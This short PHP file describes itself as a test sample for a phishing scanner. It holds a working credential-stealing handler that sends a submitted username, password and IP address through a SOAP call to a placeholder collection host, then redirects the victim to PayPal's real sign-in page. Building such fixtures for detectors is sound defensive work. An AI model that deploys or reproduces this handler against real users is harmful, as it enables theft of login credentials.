<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// a phishing handler that posts the typed login to its operator through a SOAP call
$c = new SoapClient(null, array('location' => 'https://collect.example.top/s.php', 'uri' => 'urn:x'));
$c->__soapCall('log', array($_POST['user'], $_POST['pass'], $_SERVER['REMOTE_ADDR']));
header('Location: https://www.paypal.com/signin');
